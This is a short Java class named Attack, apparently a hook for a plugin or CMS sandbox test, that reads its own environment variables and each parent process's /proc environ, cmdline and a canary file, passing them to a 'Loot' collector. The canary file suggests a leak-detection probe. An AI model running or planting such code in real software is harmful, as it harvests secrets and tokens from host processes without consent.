package cms;

import java.nio.file.*;
import java.util.*;

final class Attack extends Hooks {
    void load() throws Exception {
        tell("looks");
        Loot.look("its own environment", System.getenv().toString());
        for (ProcessHandle each = ProcessHandle.current(); each != null; each = each.parent().orElse(null)) {
            for (String file : List.of("environ", "cmdline", "cwd/canary.txt")) {
                Loot.look(Path.of("/proc", Long.toString(each.pid()), file));
            }
        }
    }
}
